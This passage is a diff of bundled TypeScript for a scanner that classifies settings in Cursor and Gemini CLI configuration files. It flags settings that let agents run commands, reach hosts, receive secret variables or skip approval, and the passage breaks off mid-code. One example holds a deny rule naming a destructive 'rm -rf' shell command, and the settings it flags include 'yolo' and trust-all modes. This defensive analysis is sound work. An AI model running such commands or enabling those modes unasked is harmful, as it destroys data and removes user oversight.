+			...grants$1("net", "allow", "reaches the hosts", {
+				read: hosts("net"),
+				example: { networkPolicy: { allow: ["x.example"] } }
+			}),
+			...grants$1("guard", "deny", "limits the hosts", {
+				read: hosts("guard"),
+				example: { networkPolicy: { deny: ["x.example"] } }
+			})
+		]),
+		...harmless$1("$schema")
+	],
+	unitOf: clientFile(".cursor/sandbox.json"),
+	sample: { path: ".cursor/sandbox.json" }
+});
+// src/powers/carriers/cursor-worktrees.ts
+const atWorktree = command$3({
+	start: "event",
+	event: "worktree"
+});
+const eachCommand = (field, place) => {
+	const { value } = field;
+	if (value.kind !== "list") return atWorktree(field, place);
+	return combine$1(...value.items.map((item) => atWorktree({
+		...field,
+		value: item
+	}, place)));
+};
+const cursorWorktrees = tableCarrier({
+	id: "cursor-worktrees",
+	paths: [".cursor/worktrees.json"],
+	client: "Cursor",
+	format: "jsonc",
+	consequence: "Cursor sets no worktree up",
+	rows: [...grants$1("run", "setup-worktree, setup-worktree-unix, setup-worktree-windows", "runs the commands in each worktree of an agent", {
+		read: eachCommand,
+		example: { "setup-worktree": ["npm ci", "make seed"] }
+	}), ...harmless$1("$schema")],
+	unitOf: clientFile(".cursor/worktrees.json"),
+	sample: { path: ".cursor/worktrees.json" }
+});
+// src/powers/clients/gemini-security.ts
+const engines = [
+	"docker",
+	"podman",
+	"sandbox-exec",
+	"runsc",
+	"lxc"
+];
+const sandbox$1 = (field, place) => {
+	const { value: written } = field;
+	const engine = text$1(written) ?? (written.kind === "table" ? void 0 : flag$1(written));
+	if (engine === void 0 || engine === false || engine === "false") return {};
+	if (engine === true || engine === "true" || engines.includes(String(engine))) return guard(place.name, field.keyAt);
+	return opaque()(field, place);
+};
+function guard(name, at) {
+	return { grants: [settingGrant(name, `${name}: true`, {
+		kind: "guard",
+		at
+	})] };
+}
+const sandboxRows = within("tools", [
+	...grants$1("guard", "sandbox, sandbox.enabled, sandbox.command", "commands run in a sandbox", {
+		read: sandbox$1,
+		example: { tools: { sandbox: "docker" } }
+	}),
+	...grants$1("settings", "sandbox.image", "decides where commands run", {
+		read: opaque(),
+		example: { tools: { sandbox: { image: "acme/sandbox" } } }
+	}),
+	...grants$1("write", "sandboxAllowedPaths, sandbox.allowedPaths", "commands reach the folders", {
+		read: folders$1("write"),
+		example: { tools: { sandboxAllowedPaths: ["/srv/data"] } }
+	}),
+	...grants$1("net", "sandboxNetworkAccess, sandbox.networkAccess", "commands reach the network", {
+		read: everyHost,
+		example: { tools: { sandboxNetworkAccess: true } }
+	})
+]);
+const securityRows = within("security", [
+	...grants$1("guard", `disableYoloMode, disableAlwaysAllow, toolSandboxing, blockGitExtensions, environmentVariableRedaction.enabled, enableConseca`, "true: limits", {
+		read: off(true),
+		example: { security: { disableYoloMode: true } }
+	}),
+	...grants$1("guard", "allowedExtensions", "loads no other extensions", {
+		read: only("only listed extensions"),
+		example: { security: { allowedExtensions: ["^acme/"] } }
+	}),
+	...grants$1("guard", "environmentVariableRedaction.blocked", "keeps the variables from models", {
+		read: names$4({ kind: "guard" }),
+		example: { security: { environmentVariableRedaction: { blocked: ["KEY"] } } }
+	}),
+	...grants$1("settings", "environmentVariableRedaction.allowed", "shows the variables to models", {
+		read: entries,
+		example: { security: { environmentVariableRedaction: { allowed: ["KEY"] } } }
+	}),
+	...grants$1("settings", "folderTrust.enabled", "false: trusts every folder", {
+		read: on({}, false),
+		example: { security: { folderTrust: { enabled: false } } }
+	}),
+	...grants$1("settings", "enablePermanentToolApproval, autoAddToPolicyByDefault", "true: asks less", {
+		read: on(),
+		example: { security: { enablePermanentToolApproval: true } }
+	}),
+	...grants$1("settings", "auth.useExternal", "true: another program signs in", {
+		read: on(),
+		example: { security: { auth: { useExternal: true } } }
+	}),
+	...harmless$1("auth.selectedType auth.enforcedType")
+]);
+// src/powers/clients/gemini-settings.ts
+const trustRows = (field) => grants$1("approve", `${field}.<name>.trust`, "true: calls its tools without asking", {
+	read: ({ value: written }, { keys: [name = ""] }) => {
+		if (flag$1(written) === false) return {};
+		const subject = `tools of ${name}`;
+		const more = {
+			kind: "approve",
+			feature: "permission-rule",
+			trigger: whileEnabled
+		};
+		return { grants: [settingGrant(subject, `${name} / *`, {
+			...more,
+			at: written.at
+		})] };
 	},
-	examples: [exampleOf$1("run", "git diff --staged", [
-		{ ".gemini/commands/c.toml": "prompt = \"Review !{git diff --staged}\"\n" },
-		{ ".gemini/commands/c.toml": "prompt = \"Review git diff --staged\"\n" },
-		{ ".gemini/commands/c.toml": "description = 'Reviews'\nprompt = '''\nReview this:\n!{ git diff --staged }\n'''\n" }
+	example: { [field]: { docs: {
+		command: "docs-mcp",
+		trust: true
+	} } }
+});
+const geminiServerRows = within("mcpServers.<name>", [
+	...grants$1("mcp", "tcp", "connects to the server, with its tools"),
+	...grants$1("settings", "targetServiceAccount, targetAudience", "signs in as the account", {
+		read: opaque(),
+		example: { mcpServers: { docs: {
+			url: "https://d.example",
+			targetServiceAccount: "a@b"
+		} } }
+	}),
+	...harmless$1("extension")
+]);
+const general = within("general", [
+	...grants$1("approve", "defaultApprovalMode", "`auto_edit`: asks less; `plan`: limits", {
+		read: mode$1({
+			raising: ["auto_edit", "yolo"],
+			limiting: ["plan"],
+			neutral: ["default"]
+		}),
+		example: { general: { defaultApprovalMode: "auto_edit" } }
+	}),
+	...grants$1("settings", "plan.directory", "plans are written there", {
+		read: opaque(),
+		example: { general: { plan: { directory: "/srv/plans" } } }
+	}),
+	...harmless$1(`
+    preferredEditor openEditorInNewWindow vimMode devtools enableAutoUpdate
+    enableAutoUpdateNotification enableNotifications notificationMethod checkpointing plan.enabled
+    plan.modelRouting retryFetchErrors maxAttempts debugKeystrokeLogging sessionRetention
+    topicUpdateNarration logRagSnippets
+  `)
+]);
+const context = within("context", [
+	...grants$1("write", "includeDirectories", "works in the folders too", {
+		read: folders$1("write"),
+		example: { context: { includeDirectories: ["../other"] } }
+	}),
+	...grants$1("settings", "fileFiltering.respectGitIgnore, fileFiltering.respectGeminiIgnore", "false: reads ignored files", {
+		read: on({}, false),
+		example: { context: { fileFiltering: { respectGeminiIgnore: false } } }
+	}),
+	...grants$1("guard", "fileFiltering.customIgnoreFilePaths", "ignores what the files list", {
+		read: names$4({ kind: "guard" }),
+		example: { context: { fileFiltering: { customIgnoreFilePaths: [".aiignore"] } } }
+	}),
+	...harmless$1(`
+    fileName importFormat includeDirectoryTree discoveryMaxDirs memoryBoundaryMarkers
+    loadMemoryFromIncludeDirectories fileFiltering.enableFileWatcher
+    fileFiltering.enableRecursiveFileSearch fileFiltering.enableFuzzySearch
+    fileFiltering.disableFuzzySearch
+  `)
+]);
+const sent$1 = "telemetry goes there";
+const telemetry = [
+	...grants$1("net", "telemetry.otlpEndpoint", sent$1, {
+		read: address(sent$1),
+		example: { telemetry: { otlpEndpoint: "https://t.example" } }
+	}),
+	...within("telemetry", [
+		...grants$1("settings", "enabled, logPrompts, traces", "true: sends what happens", {
+			read: on(),
+			example: { telemetry: { enabled: true } }
+		}),
+		...grants$1("settings", "target, outfile", "decides where it is written", {
+			read: opaque(),
+			example: { telemetry: { outfile: "/tmp/log" } }
+		}),
+		...harmless$1("otlpProtocol useCollector useCliAuth")
+	]),
+	...grants$1("guard", "privacy.usageStatisticsEnabled", "false: sends no statistics", {
+		read: off(false),
+		example: { privacy: { usageStatisticsEnabled: false } }
+	})
+];
+const agents$1 = within("agents", [
+	...grants$1("settings", "overrides.<name>.enabled", "switches the agent", {
+		read: opaque(),
+		example: { agents: { overrides: { helper: { enabled: true } } } }
+	}),
+	...harmless$1("overrides.<name>.modelConfig overrides.<name>.runConfig overrides.<name>.tools"),
+	...grants$1("net", "browser.allowedDomains", "the browser reaches the hosts", {
+		read: hosts("net"),
+		example: { agents: { browser: { allowedDomains: ["x.example"] } } }
+	}),
+	...grants$1("settings", "browser.sessionMode", "`existing`: uses the browser of the user", {
+		read: value(["existing"]),
+		example: { agents: { browser: { sessionMode: "existing" } } }
+	}),
+	...grants$1("settings", "browser.profilePath", "uses the profile of a browser", {
+		read: opaque(),
+		example: { agents: { browser: { profilePath: "/home/me/profile" } } }
+	}),
+	...grants$1("guard", "browser.confirmSensitiveActions, browser.blockFileUploads", "true: limits", {
+		read: off(true),
+		example: { agents: { browser: { blockFileUploads: true } } }
+	}),
+	...harmless$1(`
+    browser.headless browser.visualModel browser.disableUserInput browser.maxActionsPerTask
+  `)
+]);
+const others = [
+	...grants$1("settings", "policyPaths", "loads further rules of what asks", {
+		read: entries,
+		example: { policyPaths: ["./policies"] }
+	}),
+	...grants$1("settings", `hooksConfig.enabled, hooksConfig.disabled, extensions.disabled, skills.disabled, skills.enabled, advanced.bugCommand, experimental.extensionRegistryURI, experimental.gemmaModelRouter, experimental.extensionManagement, experimental.enableAgents`, "shown as written", {
+		read: opaque(),
+		example: { hooksConfig: { enabled: true } }
+	}),
+	...grants$1("settings", "experimental.directWebFetch, experimental.autoMemory", "true: does more", {
+		read: on(),
+		example: { experimental: { autoMemory: true } }
+	}),
+	...grants$1("guard", "advanced.excludedEnvVars", "keeps the variables of `.env` out", {
+		read: names$4({ kind: "guard" }),
+		example: { advanced: { excludedEnvVars: ["DEBUG"] } }
+	}),
+	...grants$1("settings", "billing.overageStrategy", "`always`: spends credits without asking", {
+		read: value(["always"]),
+		example: { billing: { overageStrategy: "always" } }
+	}),
+	...within("experimental", harmless$1(`
+      gemma voiceMode voice adk worktrees extensionConfig extensionRegistry extensionReloading
+      useOSC52Paste useOSC52Copy taskTracker modelSteering dynamicModelConfiguration
+      stressTestProfile generalistProfile powerUserProfile contextManagement topicUpdateNarration
+    `)),
+	...harmless$1(`
+    advanced.autoConfigureMemory advanced.dnsResolutionOrder advanced.ignoreLocalEnv
+    billing.vertexAi hooksConfig.notifications extensions.workspacesWithMigrationNudge
+    adminPolicyPaths admin contextManagement modelConfigs useWriteTodos ui ide output model theme
+    $schema
+  `)
+];
+const geminiRows = [
+	...general,
+	...securityRows,
+	...context,
+	...telemetry,
+	...agents$1,
+	...others
+];
+// src/powers/carriers/gemini-agent.ts
+const client$1 = "Gemini CLI";
+const duringTurn$2 = { start: "turn" };
+const example$7 = exampleWriter((fields) => ({ ".gemini/agents/a.md": `---\nname: a\ndescription: Helps.\n${fields}---\nHelp.\n` }));
+const serverKeys = ["mcp_servers", "mcpServers"];
+const readServers = ({ value }, { source: { unit } }) => readClientServers(value, {
+	unit,
+	trigger: duringTurn$2
+});
+const serverRows$2 = serverKeys.flatMap((key) => [
+	...grants$1("mcp", key, "starts the servers, with their tools", { read: readServers }),
+	...clientServerRows(key),
+	...within(key, geminiServerRows.map(belowServers)),
+	...trustRows(key),
+	...within(`${key}.<name>`, harmless$1("http_url include_tools exclude_tools auth target_audience target_service_account"))
+]);
+function belowServers(row) {
+	return {
+		...row,
+		field: row.field.replace(/^mcpServers\./, ""),
+		example: void 0
+	};
+}
+const sent = "prompts go there";
+const rows$7 = [
+	...grants$1("delegate", "tools", "the tools of the agent; absent: any tool"),
+	...serverRows$2,
+	...grants$1("net", "agent_card_url", "is an agent of that server", {
+		read: address(sent),
+		example: {
+			tools: [],
+			agent_card_url: "https://agent.example/card"
+		}
+	}),
+	...grants$1("secret", "auth", "sends variables of the environment to the server", {
+		read: (_, { table }) => {
+			return { grants: secretsSent(table, text$1(get(table, "agent_card_url")) ?? "the agent", ["auth"]).map((secret) => ({
+				...secret,
+				subject: "auth",
+				trigger: duringTurn$2
+			})) };
+		},
+		example: {
+			tools: [],
+			agent_card_url: "https://agent.example/card",
+			auth: {
+				type: "http",
+				scheme: "Bearer",
+				token: "${TOKEN}"
+			}
+		}
+	}),
+	...harmless$1(`
+    kind name description display_name model temperature max_turns timeout_mins agent_card_json
+  `)
+];
+const geminiAgent = {
+	id: "gemini-agent",
+	paths: [".gemini/agents/*.md", "<extension>/agents/*.md"],
+	client: client$1,
+	extensions: ["md"],
+	rows: rows$7,
+	unitOf(path, tree) {
+		const folder = folderOf(path);
+		if (!path.endsWith(".md") || nameOf$3(folder) !== "agents") return null;
+		const root = folderOf(folder);
+		const isExtension = tree.has(join$2(root, "gemini-extension.json")) && !tree.has(join$2(root, ".claude-plugin/plugin.json"));
+		return nameOf$3(root) === ".gemini" || isExtension ? {
+			kind: "agent",
+			root: path
+		} : null;
+	},
+	read(source) {
+		const { path, text } = source;
+		const file = readFrontmatter(path, text);
+		const { frontmatter, isUnreadable } = file;
+		if (isUnreadable) return combine$1({ faults: [unreadableFrontmatter(file, path)] });
+		if (!frontmatter) return nothing$1;
+		return combine$1({ name: text$1(get(frontmatter, "name")) }, tools$1(frontmatter, path), readTable(frontmatter, rows$7, {
+			source,
+			client: client$1,
+			isForPeople: true
+		}));
+	},
+	sample: {
+		path: ".gemini/agents/a.md",
+		fields: {
+			name: "a",
+			description: "Helps.",
+			tools: []
+		}
+	},
+	examples: [example$7("delegate", "run_shell_command", [
+		"tools: [read_file, run_shell_command]\n",
+		"tools: [read_file]\n",
+		"tools:\n  - run_shell_command\n  - \"read_file\"\n"
+	]), example$7("delegate", "*", [
+		"",
+		"tools: [read_file]\n",
+		"model: inherit\n"
 	])]
 };
+function tools$1(frontmatter, path) {
+	if (text$1(get(frontmatter, "kind")) === "remote") return {};
+	const field = frontmatter.fields.get("tools");
+	const base = {
+		kind: "delegate",
+		feature: "agent-tools",
+		subject: "tools",
+		trigger: duringTurn$2
+	};
+	if (field && field.value.kind !== "null") return { grants: toolGrants(field, base) };
+	const at = frontmatter.fields.get("name")?.keyAt ?? { path };
+	return { grants: [{
+		...base,
+		scope: "*",
+		reach: "any",
+		isDefault: true,
+		at
+	}] };
+}
+// src/powers/carriers/gemini-command.ts
+const geminiCommand = tableCarrier({
+	id: "gemini-command",
+	paths: [".gemini/commands/**/*.toml", "<extension>/commands/**/*.toml"],
+	client: "Gemini CLI",
+	format: "toml",
+	consequence: "Gemini CLI does not load the command",
+	rows: [...grants$1("run", "prompt", "`!{\u2026}`: runs the command each time the prompt is loaded, once the user agrees", {
+		read: ({ value }) => readPrompt(value),
+		example: { prompt: "Review !{git diff --staged}" },
+		without: { prompt: "Review git diff --staged" }
+	}), ...harmless$1("description")],
+	unitOf: unitOf$1,
+	sample: { path: ".gemini/commands/c.toml" }
+});
 function unitOf$1(path, tree) {
 	if (!path.endsWith(".toml")) return null;
 	const segments = path.split("/");
@@ -17404,118 +19925,70 @@ function shellLines(text) {
 	return found;
 }
 // src/powers/carriers/gemini-extension.ts
-const known$4 = new Set(wordList(`
-  name version description mcpServers excludeTools contextFileName settings migratedTo themes plan
-  $schema author license homepage repository keywords
-`));
-const extension$1 = (fields) => ({ "e/gemini-extension.json": `{"name": "e", "version": "1.0.0"${fields}}\n` });
-const example$9 = exampleWriter(extension$1);
-const geminiExtension = {
+const geminiExtension = tableCarrier({
 	id: "gemini-extension",
-	title: "`gemini-extension.json`",
+	paths: ["gemini-extension.json"],
 	client: "Gemini CLI",
-	extensions: ["json"],
-	fields: [
-		{
-			field: "mcpServers.<name>",
-			kind: "mcp",
-			description: "starts the server, with its tools"
-		},
-		{
-			field: "excludeTools",
-			kind: "guard",
-			description: "takes tools of the client away"
-		},
-		{
-			field: "settings[].envVar",
-			kind: "secret",
-			description: "gives the variable to servers and hooks of the extension"
-		},
-		{
-			field: "migratedTo",
-			kind: "install",
-			description: "updates come from that repository"
-		}
-	],
-	unitOf(path) {
-		return nameOf$3(path) === "gemini-extension.json" ? {
-			kind: "plugin",
-			root: folderOf(path)
-		} : null;
-	},
-	read({ path, text: written, unit }) {
-		const { root, faults } = readJson(path, written, { consequence: "Gemini CLI does not load the extension" });
-		if (!root) return combine$1({ faults });
-		return combine$1({
-			name: text$1(get(root, "name")),
-			version: source(get(root, "version"))
-		}, { unread: unreadFields(root, known$4) }, readClientServers(get(root, "mcpServers"), { unit }), excludedTools(get(root, "excludeTools")), ...items(get(root, "settings")).map(readSetting), migration$1(get(root, "migratedTo")));
-	},
-	examples: [
-		example$9("mcp", "node ${extensionPath}/server.js", [
-			", \"mcpServers\": {\"docs\": {\"command\": \"node\", \"args\": [\"${extensionPath}/server.js\"]}}",
-			"",
-			", \"mcpServers\": {\"docs\": {\"args\": [\"${extensionPath}/server.js\"], \"timeout\": 9, \"command\": \"node\"}}"
-		]),
-		example$9("guard", "run_shell_command(rm -rf)", [
-			", \"excludeTools\": [\"run_shell_command(rm -rf)\", \"web_fetch\"]",
-			", \"excludeTools\": [\"web_fetch\"]",
-			", \"excludeTools\": [\"web_fetch\", \"run_shell_command(rm -rf)\"]"
-		]),
-		example$9("secret", "${DOCS_KEY}", [", \"settings\": [{\"name\": \"Key\", \"envVar\": \"DOCS_KEY\", \"sensitive\": true}]", ", \"settings\": []"]),
-		example$9("install", "https://git.example/new/home", [", \"migratedTo\": \"https://git.example/new/home\"", ""])
-	]
-};
-function excludedTools(value) {
-	if (!value) return {};
-	const tools = value.kind === "list" ? stringsOf(value) : null;
-	if (!tools) return { faults: [{
-		...wrongType("excludeTools", value, {
-			expected: "a list of tools",
-			consequence: "Gemini CLI excludes none"
+	format: "json",
+	consequence: "Gemini CLI does not load the extension",
+	rows: [
+		...clientServersRows("mcpServers"),
+		...geminiServerRows,
+		...harmless$1("mcpServers.<name>.trust"),
+		...grants$1("guard", "excludeTools", "takes tools of the client away", {
+			read: names$4({
+				kind: "guard",
+				feature: "permission-rule",
+				trigger: whileEnabled
+			}),
+			example: { excludeTools: ["run_shell_command(rm -rf)", "web_fetch"] }
 		}),
-		isUnreadable: true
-	}] };
-	return { grants: tools.map(({ text: tool, at }) => ({
-		kind: "guard",
-		feature: "permission-rule",
-		scope: tool.trim(),
+		...grants$1("secret", "settings[].envVar", "gives the variable to servers and hooks of the extension", {
+			read: readVariable,
+			example: { settings: [{
+				name: "Key",
+				envVar: "DOCS_KEY",
+				sensitive: true
+			}] }
+		}),
+		...harmless$1("settings[].name settings[].description settings[].sensitive"),
+		...grants$1("install", "migratedTo", "updates come from that repository", {
+			read: readMigration,
+			example: { migratedTo: "https://git.example/new/home" }
+		}),
+		...harmless$1(`
+      name version description contextFileName themes plan $schema author license homepage
+      repository keywords
+    `)
+	],
+	unitOf: (path) => nameOf$3(path) === "gemini-extension.json" ? {
+		kind: "plugin",
+		root: folderOf(path)
+	} : null,
+	readWhole: (root) => ({
+		name: text$1(get(root, "name")),
+		version: source(get(root, "version"))
+	}),
+	sample: { path: "e/gemini-extension.json" }
+});
+function readVariable({ value }, { table }) {
+	const variable = text$1(value);
+	if (variable === void 0) return {};
+	const isSensitive = flag$1(get(table, "sensitive")) === true;
+	return { grants: [{
+		kind: "secret",
+		feature: "secret",
+		scope: `\${${variable}} to the extension`,
+		variable,
 		reach: "one",
-		subject: "excludeTools",
+		subject: "settings",
 		trigger: whileEnabled,
-		at
-	})) };
+		at: value.at,
+		remark: isSensitive ? "the user enters a secret" : void 0
+	}] };
 }
-const settingKeys = new Set([
-	"name",
-	"description",
-	"envVar",
-	"sensitive"
-]);
-function readSetting(setting) {
-	const name = get(setting, "envVar");
-	const variable = text$1(name);
-	const unread = unreadFields(setting, settingKeys, "settings[].");
-	if (variable === void 0 || !name) return { unread };
-	const isSensitive = flag$1(get(setting, "sensitive")) === true;
-	return {
-		grants: [{
-			kind: "secret",
-			feature: "secret",
-			scope: `\${${variable}} to the extension`,
-			variable,
-			reach: "one",
-			subject: "settings",
-			trigger: whileEnabled,
-			at: name.at,
-			remark: isSensitive ? "the user enters a secret" : void 0
-		}],
-		unread
-	};
-}
-function migration$1(value) {
-	if (!value) return {};
-	const { name } = hostOf$1(text$1(value));
+function readMigration({ value }) {
+	const { name } = hostOf$2(text$1(value));
 	return { grants: [{
 		kind: "install",
 		feature: "source",
@@ -17532,13 +20005,16 @@ function migration$1(value) {
 	}] };
 }
 // src/powers/carriers/gemini-hooks.ts
-const extension = { "e/gemini-extension.json": "{\"name\": \"e\", \"version\": \"1.0.0\"}\n" };
-const geminiHooks = {
+const geminiHooks = tableCarrier({
 	id: "gemini-hooks",
-	title: "`hooks/hooks.json` of a Gemini extension",
+	paths: ["<extension>/hooks/hooks.json"],
 	client: "Gemini CLI",
-	extensions: ["json"],
-	fields: hookFields("hooks[].command", "BeforeTool"),
+	format: "jsonc",
+	consequence: "Gemini CLI loads none of its hooks",
+	rows: [...clientHookRows(gemini, {
+		plain: "SessionStart",
+		guard: "BeforeTool"
+	}), ...harmless$1("version description $schema")],
 	unitOf(path, tree) {
 		const folder = folderOf(path);
 		if (nameOf$3(path) !== "hooks.json" || nameOf$3(folder) !== "hooks") return null;
@@ -17549,194 +20025,201 @@ const geminiHooks = {
 			root
 		} : null;
 	},
-	read: (source) => readHookFile(source, gemini),
-	examples: hookExamples("e/hooks/hooks.json", {
-		plain: "SessionStart",
-		guard: "BeforeTool",
-		key: "command"
-	}).map((example) => ({
-		...example,
-		granting: {
-			...extension,
-			...example.granting
-		},
-		without: {
-			...extension,
-			...example.without
-		},
-		equivalents: example.equivalents.map((files) => ({
-			...extension,
-			...files
-		}))
-	}))
-};
-// src/powers/carriers/gemini-settings.ts
-const path = ".gemini/settings.json";
-const settings$1 = (text) => ({ [path]: `${text}\n` });
-const example$8 = exampleWriter(settings$1);
-const geminiSettings = {
-	id: "gemini-settings",
-	title: "`.gemini/settings.json`",
+	sample: {
+		path: "e/hooks/hooks.json",
+		files: { "e/gemini-extension.json": "{\"name\": \"e\", \"version\": \"1.0.0\"}\n" }
+	}
+});
+// src/powers/carriers/gemini-policy.ts
+const rule$1 = (decision) => ({ rule: [{
+	toolName: "run_shell_command",
+	commandPrefix: "git",
+	decision,
+	priority: 100
+}] });
+const geminiPolicy = tableCarrier({
+	id: "gemini-policy",
+	paths: [".gemini/policies/*.toml", "<extension>/policies/*.toml"],
 	client: "Gemini CLI",
-	extensions: ["json"],
-	fields: [
-		{
-			field: "mcpServers.<name>",
-			kind: "mcp",
-			description: "starts the server, with its tools"
-		},
-		{
-			field: "mcpServers.<name>.env, headers",
-			kind: "secret",
-			description: "passes on variables of the environment"
-		},
-		{
-			field: "hooks",
-			kind: "run",
-			description: "as in `hooks/hooks.json` of an extension"
-		},
-		{
-			field: "tools.allowed",
-			kind: "approve",
-			description: "allows the tools without asking"
-		},
-		{
-			field: "tools.exclude, tools.core",
-			kind: "guard",
-			description: "limits the tools"
-		},
-		{
-			field: "tools.discoveryCommand, tools.callCommand",
-			kind: "run",
-			description: "runs the command without asking"
-		},
-		{
-			field: "general, security, tools, context, mcp",
-			kind: "settings",
-			description: "shown as written"
-		}
+	format: "toml",
+	consequence: "Gemini CLI uses none of its rules",
+	rows: [
+		...grants$1("approve", "rule[]", "`allow`: the tool is used without asking", {
+			read: readRule,
+			example: rule$1("allow"),
+			without: { rule: [] }
+		}),
+		...grants$1("guard", "rule[].decision", "`deny`, `ask_user`: limits the tool", {
+			example: rule$1("deny"),
+			without: { rule: [] }
+		}),
+		...within("rule[]", harmless$1(`
+        toolName subagent mcpName argsPattern commandPrefix commandRegex priority modes interactive
+        toolAnnotations allowRedirection allow_redirection denyMessage deny_message
+      `)),
+		...grants$1("guard", "safety_checker[]", "checks the calls of the tool", {
+			read: readChecker,
+			example: { safety_checker: [{
+				toolName: "edit",
+				checker: {
+					type: "in-process",
+					name: "path"
+				}
+			}] },
+			without: { safety_checker: [] }
+		}),
+		...within("safety_checker[]", harmless$1(`
+        toolName mcpName argsPattern commandPrefix commandRegex priority modes toolAnnotations
+        checker.type checker.name checker.required_context checker.config
+      `))
 	],
-	unitOf(file) {
-		const folder = folderOf(file);
-		return nameOf$3(file) === "settings.json" && nameOf$3(folder) === ".gemini" ? {
+	unitOf(path, tree) {
+		const folder = folderOf(path);
+		if (!path.endsWith(".toml") || nameOf$3(folder) !== "policies") return null;
+		const root = folderOf(folder);
+		if (nameOf$3(root) === ".gemini") return {
 			kind: "repository",
-			root: folderOf(folder)
+			root: folderOf(root)
+		};
+		return tree.has(join$2(root, "gemini-extension.json")) ? {
+			kind: "plugin",
+			root
 		} : null;
 	},
-	read({ path: file, text, unit }) {
-		const { root, faults } = readJson(file, text, {
-			consequence: "Gemini CLI uses none of its settings",
-			hasComments: true
-		});
-		if (root?.kind !== "table") return combine$1({ faults });
-		return combine$1(readClientServers(get(root, "mcpServers"), { unit }), readClientHooks(get(root, "hooks"), gemini), readTools(get(root, "tools")), ...[
-			"general",
-			"security",
-			"context",
-			"mcp",
-			"privacy",
-			"telemetry",
-			"experimental"
-		].map((key) => opaqueSetting(root.fields.get(key), "")), { unread: unreadFields(root, known$3) });
-	},
-	examples: [
-		example$8("mcp", "docs-mcp --all", [
-			"{\"mcpServers\": {\"docs\": {\"command\": \"docs-mcp\", \"args\": [\"--all\"]}}}",
-			"{\"mcpServers\": {}}",
-			"{\n  // the documents\n  \"mcpServers\": {\"docs\": {\"args\": [\"--all\"], \"command\": \"docs-mcp\"}}\n}"
+	sample: { path: ".gemini/policies/p.toml" }
+});
+const prose$1 = [
+	"decision",
+	"denyMessage",
+	"deny_message",
+	"toolName",
+	"commandPrefix"
+];
+function callsOf(entry) {
+	const conditions = fields(entry).filter(({ key }) => !prose$1.includes(key)).map(({ key, value }) => `${key}: ${text$1(value) ?? canonical(toJson(value))}`).sort();
+	const names = stringsOf(get(entry, "toolName")) ?? [];
+	const prefixes = stringsOf(get(entry, "commandPrefix")) ?? [];
+	const tools = names.length > 0 ? names.map((name) => name.text) : ["*"];
+	const commands = prefixes.length > 0 ? prefixes.map((prefix) => `(${prefix.text})`) : [""];
+	return tools.flatMap((tool) => commands.map((command) => [`${tool}${command}`, ...conditions].join(" ")));
+}
+function readRule({ value }, { source: { unit } }) {
+	const decision = get(value, "decision");
+	const written = text$1(decision) ?? "";
+	const at = decision?.at ?? value.at;
+	if (written === "allow" && unit.kind === "plugin") return { faults: [grantFault(msg`${code$1("allow")} has no effect in an extension.`, at)] };
+	const isLimit = written === "deny" || written === "ask_user";
+	const kind = isLimit ? "guard" : "approve";
+	const reach = isLimit || written === "allow" ? "one" : "unknown";
+	const prefix = isLimit ? `${written}: ` : "";
+	return { grants: callsOf(value).map((call) => {
+		const more = {
+			kind,
+			feature: "permission-rule",
+			reach,
+			at
+		};
+		return settingGrant("rule", `${prefix}${call}`, more);
+	}) };
+}
+function readChecker({ value }) {
+	return { grants: callsOf(value).map((call) => settingGrant("safety_checker", `check: ${call}`, {
+		kind: "guard",
+		at: value.at
+	})) };
+}
+// src/powers/carriers/gemini-settings.ts
+const geminiSettings = tableCarrier({
+	id: "gemini-settings",
+	paths: [".gemini/settings.json"],
+	client: "Gemini CLI",
+	format: "jsonc",
+	consequence: "Gemini CLI uses none of its settings",
+	rows: [
+		...clientServersRows("mcpServers"),
+		...trustRows("mcpServers"),
+		...geminiServerRows,
+		...clientHookRows(gemini, {
+			plain: "SessionStart",
+			guard: "BeforeTool"
+		}),
+		...within("tools", [
+			...grants$1("approve", "allowed", "allows the tools without asking", {
+				read: rules$5("approve"),
+				example: { tools: { allowed: ["run_shell_command(git)"] } }
+			}),
+			...grants$1("guard", "exclude", "limits the tools", {
+				read: rules$5("guard"),
+				example: { tools: { exclude: ["web_fetch"] } }
+			}),
+			...grants$1("guard", "core", "allows no other tools", {
+				read: (field, place) => {
+					const only = {
+						kind: "guard",
+						at: field.keyAt
+					};
+					const tools = each(({ text, at }, { name }) => settingGrant(name, `tool ${text.trim()}`, { at }));
+					return combine$1({ grants: [settingGrant(place.name, "only listed tools", only)] }, tools(field, place));
+				},
+				example: { tools: { core: ["read_file"] } }
+			}),
+			...grants$1("run", "discoveryCommand, callCommand", "runs the command without asking", {
+				read: command$3(),
+				example: { tools: { discoveryCommand: "./tools.sh" } }
+			}),
+			...grants$1("guard", "confirmationRequired", "asks before the tools", {
+				read: rules$5("guard"),
+				example: { tools: { confirmationRequired: ["web_fetch"] } }
+			}),
+			...grants$1("run", "shell.pager", "runs the program to show output", {
+				read: command$3(),
+				example: { tools: { shell: { pager: "./pager.sh" } } }
+			}),
+			...harmless$1(`
+        shell.enableInteractiveShell shell.backgroundCompletionBehavior shell.showColor
+        shell.inactivityTimeout shell.enableShellOutputEfficiency useRipgrep
+        truncateToolOutputThreshold disableLLMCorrection
+      `)
 		]),
-		example$8("secret", "${DOCS_KEY} to the server", ["{\"mcpServers\": {\"docs\": {\"command\": \"docs-mcp\", \"env\": {\"KEY\": \"$DOCS_KEY\"}}}}", "{\"mcpServers\": {\"docs\": {\"command\": \"docs-mcp\"}}}"]),
-		example$8("run", "notify.sh", ["{\"hooks\": {\"SessionStart\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"notify.sh\"}]}]}}", "{}"]),
-		example$8("approve", "run_shell_command(git)", ["{\"tools\": {\"allowed\": [\"run_shell_command(git)\"]}}", "{\"tools\": {}}"]),
-		example$8("guard", "web_fetch", ["{\"tools\": {\"exclude\": [\"web_fetch\"]}}", "{\"tools\": {\"exclude\": []}}"]),
-		example$8("settings", "security: {\"disableYoloMode\":false}", [
-			"{\"security\": {\"disableYoloMode\": false}}",
-			"{}",
-			"{\"security\":{\"disableYoloMode\":false}}"
-		])
-	]
-};
-const known$3 = new Set(wordList(`
-  mcpServers hooks tools general security context mcp privacy telemetry experimental ui ide output
-  model theme $schema
-`));
-const toolKeys = new Set([
-	"allowed",
-	"exclude",
-	"core",
-	"discoveryCommand",
-	"callCommand",
-	"sandbox"
-]);
-function readTools(tools) {
-	if (tools?.kind !== "table") return combine$1();
-	const { fields } = tools;
-	const rules = (key, kind) => listGrants(fields.get(key), "tools.", ({ text, at }, subject) => ({
+		...within("mcp", [
+			...grants$1("run", "serverCommand", "starts the server", {
+				read: command$3(),
+				example: { mcp: { serverCommand: "./server.sh" } }
+			}),
+			...grants$1("guard", "allowed", "starts no other servers", {
